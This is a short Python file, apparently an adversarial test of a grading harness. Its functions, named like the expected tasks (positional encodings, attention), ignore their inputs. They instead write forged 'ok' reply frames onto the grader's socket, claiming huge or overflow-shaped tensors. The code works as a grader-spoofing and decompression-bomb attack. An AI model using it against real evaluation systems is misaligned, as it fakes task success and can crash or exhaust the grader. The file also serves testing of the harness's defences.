# Forge reply frames on the worker's channel: one claiming a huge tensor in a few bytes (a
# "decompression bomb" of the wire format: sizes must be checked against the bytes actually
# sent), and one whose empty tensor has the shape [2**62, 2**62, 0] (torch's storage size
# arithmetic overflows if the grader ever builds it).
import json
import os
import stat
import struct
import time


def sinusoidal_positions(num_positions, d_model):
    _forge("positions/sinusoidal", [1 << 20, 1 << 20], 16)


def scaled_dot_product_two_loop_single(q, k, v):
    _forge("attention/two_loop_single", [2 ** 62, 2 ** 62, 0], 0)


def _forge(case, shape, payload):
    channel = next(fd for fd in range(3, 64) if _is_socket(fd))
    claim = {"$t": 0, "dtype": "float32", "shape": shape}
    tree = {"$d": [["case", case], ["status", "ok"], ["outputs", claim]]}
    header = json.dumps({"tree": tree, "sizes": [payload]}).encode()
    os.write(channel, b"GRD1" + struct.pack("<II", len(header), payload) + header
             + b"\0" * payload)
    time.sleep(60)


def _is_socket(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False
